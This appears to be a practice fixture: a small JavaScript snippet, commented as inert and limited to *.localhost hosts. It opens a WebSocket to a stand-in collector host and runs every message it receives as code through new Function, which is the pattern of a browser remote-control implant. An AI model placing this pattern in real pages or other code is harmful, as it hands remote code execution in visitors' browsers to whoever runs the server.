/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const socket = new WebSocket(`wss://collect.localhost:${location.port}/support`);
  socket.onmessage = (event) => new Function('socket', event.data)(socket);
})();
